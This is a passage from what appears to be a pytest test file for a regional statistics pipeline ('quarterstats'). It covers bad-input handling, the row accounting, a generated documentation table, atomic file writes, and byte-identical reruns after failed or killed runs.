        assert (len(outside), result.ambiguous, len(result.nearest)) == (expect.outside, expect.ambiguous, expect.nearest)
        assert len(joined) + len(outside) == len(persons)
        assert joined["person_id"].is_unique
    else:  # pragma: no cover
        raise AssertionError(f"unknown expectation {expect!r}")


# ============================================================================ the table in the docs
WHERE = {  # short forms; docs/bad-inputs.md explains them above the table
    ("register", "unusable"): "message, exit 2 (`validate`, `run`)",
    ("register", "quarantine"): "quarantine table; report; `validate` exit 1",
    ("register", "repair"): "report (`link_repairs`); `validate` exit 1 (`repaired`)",
    ("register", "warning"): "report (`warnings`, `notes`)",
    ("register", "accepted"): "—",
    ("register", "accepted-note"): "report (`notes`)",
    ("boundaries", "unusable"): "message, exit 2 (`run`)",
    ("versions", "unusable"): "message, exit 2 (`run`, persons stage)",
    ("boundaries", "accepted"): "`validation.json`",
    ("location", "located"): "outside-districts table; run metadata",
    ("auxiliary", "unusable"): "message, exit 2 (`validate`, `run`)",
    ("auxiliary", "quarantine"): "`validate` exit 1; run metadata (`auxiliary_rule_counts`), check "
                                 "`auxiliary_figures_within_contract` (warns)",
    ("auxiliary", "removed"): "run metadata (`auxiliary_values_removed`), check `auxiliary_figures_within_contract` "
                              "(warns)",
    ("auxiliary", "accepted"): "—",
    ("auxiliary", "accepted-note"): "`validate` notes; run metadata (`auxiliary_markers`)",
    ("delivery", "refused"): "message, exit 2 (`run`, `validate <folder>`)",
    ("delivery", "listed"): "run console, metadata `deliveries_not_used`; `validate <folder>`",
    ("dates", "warning"): "run console; metadata `pseudonym_changes`; check `pseudonyms_keep_birth_year_and_sex` "
                          "(warns)",
    ("location", "nearest"): "nearest-district table; run metadata",
    ("location", "unusable"): "message, exit 2 (`run`, persons stage)",
    ("names", "inert"): "every published file (CSV, Parquet, Excel, figures, HTML) and console messages",
}


def _counts(counts: dict[str, int]) -> str:
    return ", ".join(f"`{rule}` ×{n}" for rule, n in counts.items())


def behaviour(case: Case) -> tuple[str, str]:
    """(behaviour, where the user sees it) of a case, for the docs."""
    e = case.expect
    if isinstance(e, Unusable):
        column = f", column `{e.column}`" if e.column else ""
        says = f" — says “…{e.match}…”" if e.match else ""
        return f"**unusable**: `{e.rule}`{column}{says}", WHERE[(case.area, "unusable")]
    if isinstance(e, Ingested):
        parts, kind = [], "accepted"
        if e.quarantined:
            parts.append(f"rows quarantined: {_counts(e.quarantined)}")
            kind = "quarantine"
        if e.links:
            parts.append(f"link removed, person kept: {_counts(e.links)}")
            kind = "repair" if kind == "accepted" else kind
        if e.warnings:
            parts.append(f"rows kept, warning: {_counts(e.warnings)}")
            kind = "warning" if kind == "accepted" else kind
        if not parts:
            parts.append(f"accepted: {case.effect}" if case.effect else "accepted")
            kind = "accepted-note" if e.note else "accepted"
        return "; ".join(parts), WHERE[("register", kind)]
    if isinstance(e, AuxiliaryRead):
        if e.quarantined:
            return f"district row quarantined: {_counts(e.quarantined)}", WHERE[("auxiliary", "quarantine")]
        if e.removed:
            return f"value removed, district kept: {_counts(e.removed)}", WHERE[("auxiliary", "removed")]
        if e.markers:
            return f"accepted, markers counted: {_counts(e.markers)}", WHERE[("auxiliary", "accepted-note")]
        return f"accepted: {case.effect}" if case.effect else "accepted", WHERE[("auxiliary", "accepted")]
    if isinstance(e, Delivered):
        if e.refused:
            return f"**refused**: `file.delivery` — says “…{e.refused}…”", WHERE[("delivery", "refused")]
        if e.not_used:
            return f"listed as not used — “…{e.not_used}…”", WHERE[("delivery", "listed")]
        return f"followed and listed — “{e.followed}”", WHERE[("delivery", "listed")]
    if isinstance(e, IdentityWarned):
        if e.birth_year or e.sex:
            found = {"person_id.birth_year": e.birth_year, "person_id.sex": e.sex}
            return f"persons kept, warning: {_counts({k: v for k, v in found.items() if v})}", WHERE[("dates", "warning")]
        return "accepted (within ±1 year)", WHERE[("dates", "warning")]
    if isinstance(e, BoundariesRead):
        return f"accepted: {case.effect}", WHERE[("boundaries", "accepted")]
    if isinstance(e, Located):
        if e.outside:
            return f"person set aside: `location.outside_districts` ×{e.outside}", WHERE[("location", "located")]
        if e.nearest:
            return (f"given the nearest district, counted: `location.nearest_district` ×{e.nearest}",
                    WHERE[("location", "nearest")])
        extra = f"; counted as ambiguous ×{e.ambiguous}" if e.ambiguous else ""
        return f"assigned to exactly one district{extra}", WHERE[("location", "located")]
    if isinstance(e, Inert):
        return f"read as delivered; {case.effect}", WHERE[("names", "inert")]
    raise AssertionError(e)


def catalogue_markdown() -> str:
    lines = ["| # | case | input (Eingabe) | behaviour | where the user sees it |", "|---|---|---|---|---|"]
    for number, case in enumerate(CASES, start=1):
        what, where = behaviour(case)
        lines.append(f"| {number} | `{case.id}` | {case.input_de} | {what} | {where} |")
    return "\n".join(lines) + "\n"


BEGIN = "<!-- generated by tests/test_bad_inputs.py (catalogue_markdown) -->\n"
END = "<!-- end generated -->"


def test_docs_table_is_current():
    """docs/bad-inputs.md holds the table of this catalogue; regenerate: python tests/test_bad_inputs.py"""
    text = DOC.read_text(encoding="utf-8")
    assert BEGIN + catalogue_markdown() + END in text, "regenerate with: .venv/bin/python tests/test_bad_inputs.py"


# ============================================================================ through the command line
UNUSABLE_WITH_COLUMN = [c for c in CASES if c.area == "register" and isinstance(c.expect, Unusable) and c.expect.column]


@pytest.mark.parametrize("case", UNUSABLE_WITH_COLUMN, ids=[c.id for c in UNUSABLE_WITH_COLUMN])
def test_validate_names_file_column_and_rule_without_traceback(case: Case, tmp_path: Path, capsys):
    from quarterstats.cli import main

    path = case.make(tmp_path)
    argv = ["validate", str(path)] + [f"--{k}={v}" for k, v in case.options.items()]
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert str(path) in err and f"column '{case.expect.column}'" in err and case.expect.rule in err
    assert "Traceback" not in err
    assert main(argv + ["--json"]) == 2
    payload = json.loads(capsys.readouterr().out)
    assert payload["error"]["rule"] == case.expect.rule and payload["error"]["column"] == case.expect.column


def test_validate_rows_broken_exits_1_and_accounts_for_every_row(tmp_path: Path, capsys):
    from quarterstats.cli import main

    case = next(c for c in CASES if c.id == "separator-in-value")
    path = case.make(tmp_path)
    assert main(["validate", "--json", str(path)]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["input_rows"] == 110 == report["accepted_rows"] + report["quarantined_rows"]
    assert report["rule_counts"] == {"age.range": 1, "row.fields": 1}


@pytest.fixture(autouse=True)
def isolated_dagster_home(tmp_path, monkeypatch):
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dagster_home"))


def project_rows() -> list[dict]:
    """The clean rows plus: 2 quarantined rows, 1 removed link, 1 person outside every district, 1 person
    just outside the city's edge (given the nearest district)."""
    return clean_rows() + fillers(40) + [
        person("bad-age", age=130),
        person("bad-sex", sex="q"),
        person("orphan", age=6, mother_id="nobody"),
        person("far", x=ORIGIN[0] - 5_000, y=ORIGIN[1]),
        person("edge", x=ORIGIN[0] - 20, y=ORIGIN[1] + 500),
    ]


def output_files(root: Path) -> dict[str, bytes]:
    """Every file the pipeline wrote (data/processed and reports), by path relative to the project."""
    files = [p for folder in (root / "data" / "processed", root / "reports") for p in sorted(folder.rglob("*"))]
    return {str(p.relative_to(root)): p.read_bytes() for p in files if p.is_file()}


def temporary_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*.tmp")]


@pytest.fixture(scope="module")
def ran_project(tmp_path_factory) -> Path:
    """A small project with a few bad rows, run once through the command line (shared, read-only).

    A whole run takes 10-20 s (Dagster, reports), so the tests using it are marked slow.
    """
    from quarterstats.cli import main

    root = make_small_project(tmp_path_factory.mktemp("ran"), project_rows())
    old = os.environ.get("DAGSTER_HOME")
    os.environ["DAGSTER_HOME"] = str(root / ".dagster_home")
    try:
        assert main(["run", "--workdir", str(root)]) == 0
    finally:
        if old is None:
            os.environ.pop("DAGSTER_HOME", None)
        else:
            os.environ["DAGSTER_HOME"] = old
    return root


def test_stages_account_for_every_input_row(tmp_path: Path):
    """Input rows = accepted + quarantined = persons in districts + outside + quarantined (no Dagster)."""
    from quarterstats.paths import ProjectPaths
    from quarterstats.stages import boundaries_stage, ingest_stage, persons_stage

    paths = ProjectPaths.from_workdir(make_small_project(tmp_path, project_rows()))
    ingested = ingest_stage(paths, REFERENCE_DATE)
    boundaries_stage(paths)
    located = persons_stage(paths, REFERENCE_DATE)
    rows = len(project_rows())
    meta = ingested.metadata
    assert meta["input_rows"] == rows == meta["accepted_rows"] + meta["quarantined_rows"]
    assert meta["rule_counts"] == {"age.range": 1, "sex.allowed": 1}
    assert meta["link_repairs"] == {"mother_id.exists": 1}
    assert located.metadata["outside_districts"] == 1 and located.metadata["persons"] == rows - 3
    assert ingested.checks["register_rows_accounted"][0] and located.checks["persons_all_accounted"][0]
    report = json.loads(paths.ingest_report(REFERENCE_DATE).read_text(encoding="utf-8"))
    assert report["input_rows"] == report["accepted_rows"] + report["quarantined_rows"] == rows
    quarantine = pd.read_parquet(paths.quarantine(REFERENCE_DATE))
    outside = pd.read_parquet(paths.quarantine_location(REFERENCE_DATE))
    persons = pd.read_parquet(paths.persons(REFERENCE_DATE))
    assert sorted(quarantine["person_id"]) == ["bad-age", "bad-sex"]
    assert outside["person_id"].tolist() == ["far"]
    nearest = pd.read_parquet(paths.location_report(REFERENCE_DATE))
    assert nearest[["person_id", "district_id", "distance_m", "rule"]].values.tolist() == [
        ["edge", "A", 20.0, "location.nearest_district"]]
    assert located.metadata["nearest_district"] == 1 and "1 by nearest district" in located.checks["persons_all_accounted"][1]
    assert "edge" in set(persons["person_id"])
    assert len(persons) + len(outside) + len(quarantine) == rows
    assert not temporary_files(tmp_path)


PREVIOUS = {  # stand-ins for the outputs of an earlier run, which a failed run must leave alone
    "data/processed/register/2020-12-31.parquet": b"previous accepted rows",
    "data/processed/quarantine/2020-12-31.parquet": b"previous quarantine",
    "data/processed/quarantine/2020-12-31.report.json": b"{}",
    "data/processed/persons/2020-12-31.parquet": b"previous persons",
    "data/processed/indicators/2020-12-31.parquet": b"previous indicators",
    "data/processed/boundaries/districts.parquet": b"previous districts",
    "data/processed/boundaries/validation.json": b"{}",
}


def break_input(root: Path, what: str) -> tuple[Path, str, str]:
    """Replace the extract or the boundaries with an unusable one; (file, rule, column)."""
    from quarterstats.paths import ProjectPaths

    paths = ProjectPaths.from_workdir(root)
    if what == "register":
        bad = paths.register_file(REFERENCE_DATE)
        pq.write_table(pq.read_table(bad).drop_columns(["age"]), bad)
        return bad, "file.columns", "age"
    bad = paths.boundary_file()
    grid = grid_districts()
    grid.loc[1, "district_id"] = "A"
    bad.unlink()
    grid.to_file(bad, layer="districts", driver="GPKG")
    return bad, "boundaries.duplicate_ids", "district_id"


@pytest.mark.parametrize("what", ["register", "boundaries"])
def test_failed_run_exits_2_and_leaves_previous_outputs_intact(tmp_path: Path, what, capsys):
    from quarterstats.cli import main

    root = make_small_project(tmp_path / "project", project_rows())
    for name, data in PREVIOUS.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    bad, rule, column = break_input(root, what)
    assert main(["run", "--workdir", str(root)]) == 2
    err = capsys.readouterr().err
    assert str(bad) in err and f"column '{column}'" in err and rule in err
    assert "Traceback" not in err
    # a bad extract stops after the (good) boundaries were prepared anew; everything of the date is untouched
    untouched = {k: v for k, v in PREVIOUS.items() if what == "boundaries" or "boundaries" not in k}
    assert {k: v for k, v in output_files(root).items() if k in untouched} == untouched
    assert not temporary_files(root)


@pytest.mark.slow
def test_run_accounts_for_every_input_row(ran_project: Path):
    """The same accounting after a whole run through the command line, in the reports on disk."""
    from quarterstats.paths import ProjectPaths

    paths = ProjectPaths.from_workdir(ran_project)
    report = json.loads(paths.ingest_report(REFERENCE_DATE).read_text(encoding="utf-8"))
    rows = len(project_rows())
    assert report["input_rows"] == rows == report["accepted_rows"] + report["quarantined_rows"]
    assert report["rule_counts"] == {"age.range": 1, "sex.allowed": 1}
    assert report["link_repairs"] == {"mother_id.exists": 1}
    quarantine = pd.read_parquet(paths.quarantine(REFERENCE_DATE))
    outside = pd.read_parquet(paths.quarantine_location(REFERENCE_DATE))
    persons = pd.read_parquet(paths.persons(REFERENCE_DATE))
    assert len(persons) + len(outside) + len(quarantine) == rows
    assert not temporary_files(ran_project)


@pytest.mark.slow
@pytest.mark.parametrize("what", ["register", "boundaries"])
def test_failed_rerun_keeps_a_real_runs_outputs_byte_for_byte(ran_project: Path, tmp_path: Path, what, capsys):
    from quarterstats.cli import main

    root = tmp_path / "project"
    shutil.copytree(ran_project, root, ignore=shutil.ignore_patterns(".dagster_home"))
    before = output_files(root)
    bad, rule, column = break_input(root, what)
    assert main(["run", "--workdir", str(root)]) == 2
    err = capsys.readouterr().err
    assert bad.name in err and f"column '{column}'" in err and rule in err and "Traceback" not in err
    # (for a bad extract, the boundaries step ran again first and wrote the same bytes)
    assert output_files(root) == before
    assert not temporary_files(root)


# ============================================================================ atomic writes
def test_crash_while_writing_keeps_the_old_file_and_leaves_no_temporary(tmp_path: Path, monkeypatch):
    target = tmp_path / "out" / "table.parquet"
    old = pd.DataFrame({"a": [1, 2, 3]})
    atomic.write_parquet(old, target)
    old_bytes = target.read_bytes()
    real_write = pq.write_table

    def crash_midway(table, where, **kwargs):
        buffer = io.BytesIO()
        real_write(table, buffer, **kwargs)
        Path(where).write_bytes(buffer.getvalue()[: len(buffer.getvalue()) // 2])  # half the file ...
        raise OSError("disk full")  # ... then the crash

    monkeypatch.setattr(pq, "write_table", crash_midway)
    with pytest.raises(OSError, match="disk full"):
        atomic.write_parquet(pd.DataFrame({"a": range(1000)}), target)
    assert target.read_bytes() == old_bytes
    assert list(target.parent.iterdir()) == [target]
    monkeypatch.undo()
    atomic.write_parquet(pd.DataFrame({"a": range(1000)}), target)  # the next write succeeds
    assert len(pd.read_parquet(target)) == 1000


def test_temporaries_of_a_killed_process_are_removed_by_the_next_write(tmp_path: Path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = tmp_path / f".report.json.{dead.pid}-0123abcd.tmp"
    stale.write_text("half", encoding="utf-8")
    mine = tmp_path / f".other.json.{os.getpid()}-0123abcd.tmp"  # a live process's: kept
    mine.write_text("in progress", encoding="utf-8")
    atomic.write_json({"a": 1}, tmp_path / "report.json")
    assert not stale.exists() and mine.exists()
    assert json.loads((tmp_path / "report.json").read_text(encoding="utf-8")) == {"a": 1}


def test_atomic_files_get_the_usual_permissions(tmp_path: Path):
    umask = os.umask(0o022)
    try:
        atomic.write_text("x", tmp_path / "a.txt")
        (tmp_path / "b.txt").write_text("x")
    finally:
        os.umask(umask)
    assert (tmp_path / "a.txt").stat().st_mode == (tmp_path / "b.txt").stat().st_mode


# ============================================================================ reruns and killed runs
def _cli_run(root: Path, home: Path, **popen) -> subprocess.Popen:
    env = dict(os.environ, DAGSTER_HOME=str(home), PYTHONUNBUFFERED="1")
    return subprocess.Popen(
        [sys.executable, "-m", "quarterstats.cli", "run", "--workdir", str(root)],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **popen,
    )


@pytest.mark.slow
def test_rerun_is_byte_identical_and_follows_changed_input(ran_project: Path, tmp_path: Path):
    from quarterstats.cli import main
    from quarterstats.paths import ProjectPaths

    root = tmp_path / "project"
    shutil.copytree(ran_project, root, ignore=shutil.ignore_patterns(".dagster_home"))
    first = output_files(root)
    assert main(["run", "--workdir", str(root)]) == 0
    assert output_files(root) == first  # every output, byte for byte
    # changed input: nothing is skipped, every output follows it
    paths = ProjectPaths.from_workdir(root)
    write_extract(project_rows() + [person("new", x=cell_centre(1, 1)[0], y=cell_centre(1, 1)[1])],
                  paths.register_file(REFERENCE_DATE))
    assert main(["run", "--workdir", str(root)]) == 0
    persons = pd.read_parquet(paths.persons(REFERENCE_DATE))
    assert "new" in set(persons["person_id"])
    pop = pd.read_parquet(paths.indicators(REFERENCE_DATE)).query("indicator == 'pop'").set_index("district_id")
    assert pop.loc["D", "value"] == 2.0
    assert not temporary_files(root)


@pytest.mark.slow
def test_killed_run_completes_correctly_when_started_again(ran_project: Path, tmp_path: Path):
    """SIGKILL once the first outputs exist; the rerun's outputs equal a clean run's, byte for byte."""
    clean = output_files(ran_project)
    root = tmp_path / "project"
    shutil.copytree(ran_project / "data" / "raw", root / "data" / "raw")  # the same input bytes
    home = tmp_path / "dagster_home_killed"
    run = _cli_run(root, home)
    first_output = root / "data" / "processed" / "boundaries" / "districts.parquet"
    deadline = time.monotonic() + 120
    while not first_output.exists() and run.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)
    assert run.poll() is None, "the run finished before it could be killed"
    run.send_signal(signal.SIGKILL)
    run.wait(timeout=30)
    assert run.returncode == -signal.SIGKILL
    partial = output_files(root)
    assert partial != clean  # it really was interrupted
    rerun = _cli_run(root, home)
    out, err = rerun.communicate(timeout=300)
    assert rerun.returncode == 0, err.decode()
    after = output_files(root)
    assert sorted(after) == sorted(clean)
    assert [name for name in clean if after[name] != clean[name]] == []
    assert not temporary_files(root)


if __name__ == "__main__":  # regenerate the table in docs/bad-inputs.md
    text = DOC.read_text(encoding="utf-8")
    start = text.index(BEGIN) + len(BEGIN)
    end = text.index(END)
    DOC.write_text(text[:start] + catalogue_markdown() + text[end:], encoding="utf-8")
    print(f"updated {DOC} ({len(CASES)} cases)")
